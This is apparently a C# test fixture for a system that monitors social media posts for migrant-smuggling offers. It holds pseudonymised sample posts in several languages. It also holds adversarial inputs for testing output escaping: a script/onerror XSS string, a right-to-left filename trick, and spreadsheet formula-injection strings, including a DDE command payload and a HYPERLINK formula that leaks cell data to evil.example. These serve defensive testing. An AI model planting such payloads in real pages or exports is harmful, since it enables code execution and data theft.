using Vigil.Core.Analysis;
using Vigil.Core.Posts;
using Vigil.Testing;

namespace Vigil.Web.Tests;

/// <summary>Stored posts as the pipeline would write them (pseudonymised), including adversarial text.</summary>
public static class SamplePosts
{
    public const string ScriptPayload = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\"> رحلة آمنة \u202Egnp.exe";

    /// <summary>Texts a spreadsheet would run as formulas, or that break naive CSV; every one has the word "formula".</summary>
    public static readonly string[] FormulaPosts =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"formula click\")",
        "+cmd|' /C calc'!A0 formula",
        "-2+3 formula",
        "@SUM(1+1) formula",
        "\t=1+1 formula",
        "   =1+1 formula after spaces",
        "formula, with \"quotes\", commas\r\nand a new line",
        "＝1+1 full-width formula",
    ];

    public static IReadOnlyList<StoredPost> All()
    {
        var posts = new List<StoredPost>
        {
            Post(WebFixture.ArabicOffer, "رحلات مضمونة من إزمير إلى اليونان، السعر 4500 يورو، واتساب [phone:TR:ps_00aa11bb22cc33dd]", Category.SmugglingOffer, 0.93, "ar", 0, "ps_author1",
                phones: ["ps_00aa11bb22cc33dd"], route: ("Izmir", "TR", "Greece", "GR"), price: 4500),
            Post(new PostKey("facebook", "2002"), "رحلات مضمونه من ازمير الى اليونان السعر 4200 يورو واتساب [phone:TR:ps_00aa11bb22cc33dd] 🔥", Category.SmugglingOffer, 0.9, "ar", 8, "ps_author2",
                phones: ["ps_00aa11bb22cc33dd"], route: ("Izmir", "TR", "Greece", "GR"), price: 4200),
            Post(WebFixture.HostilePost, ScriptPayload, Category.SmugglingOffer, 0.7, "ar", 9, "ps_author3"),
            Post(new PostKey("telegram", "3003"), "Переправка в Германию через Беларусь, 5 тыс. долларов, пишите [telegram:ps_99ff88ee77dd66cc]", Category.SmugglingOffer, 0.88, "ru", 10, "ps_author4",
                route: ("Minsk", "BY", "Germany", "DE"), price: 5000, currency: "USD"),
            Post(WebFixture.NewsPost, "UNHCR warns: smugglers charge 4500 euros for the crossing from Izmir to Greece", Category.HumanitarianOrNews, 0.95, "en", 10, null),
            Post(new PostKey("telegram", "4004"), "کسی راه رفتن به ترکیه را میداند؟ کمک کنید [phone:IR:ps_1234123412341234]", Category.MigrantRequest, 0.8, "fa", 11, "ps_migrant",
                phones: ["ps_1234123412341234"]),
        };
        posts.AddRange(FormulaPosts.Select((text, i) => Post(new PostKey("telegram", "f" + (i + 1).ToString(System.Globalization.CultureInfo.InvariantCulture)), text, Category.Unrelated, 0.6, "en", 5, null)));
        return posts;
    }

    /// <summary>Unrelated posts the import counted instead of storing (minimisation): 3 on telegram/en, 1 on x/tr.</summary>
    public static IReadOnlyList<Core.Pipeline.MinimisedPost> Minimised() =>
    [
        new(new PostKey("telegram", "u1"), new DateOnly(2026, 10, 30), "telegram", "en", Category.Unrelated),
        new(new PostKey("telegram", "u2"), new DateOnly(2026, 10, 30), "telegram", "en", Category.Unrelated),
        new(new PostKey("telegram", "u3"), new DateOnly(2026, 10, 31), "telegram", "en", Category.Unrelated),
        new(new PostKey("x", "u4"), new DateOnly(2026, 10, 31), "x", "tr", Category.Unrelated),
    ];

    private static StoredPost Post(PostKey key, string text, Category category, double confidence, string lang, int day, string? author,
        string[]? phones = null, (string, string, string, string)? route = null, decimal? price = null, string currency = "EUR")
    {
        var places = route is { } r
            ? new[] { new PlaceIndicator(r.Item1, r.Item2, "origin"), new PlaceIndicator(r.Item3, r.Item4, "destination") }
            : [];
        return new StoredPost
        {
            Key = key,
            Source = key.Platform == "rss" ? "news" : "channel_" + key.Platform,
            Author = author,
            Text = text,
            CreatedAt = Some.Instant.AddDays(day),
            CollectedAt = Some.Instant.AddDays(day),
            Analysis = new PostAnalysis
            {
                Language = new LanguageGuess(lang, 0.9),
                Category = category,
                Confidence = confidence,
                Scores = new Dictionary<Category, double> { [category] = confidence },
                Indicators = new Indicators
                {
                    Phones = (phones ?? []).Select(p => new PhoneIndicator(p, "TR")).ToList(),
                    Prices = price is { } p ? [new PriceIndicator(p, currency)] : [],
                    Places = places,
                },
                Explanation = [$"test post ({category.ToWire()})"],
            },
        };
    }
}
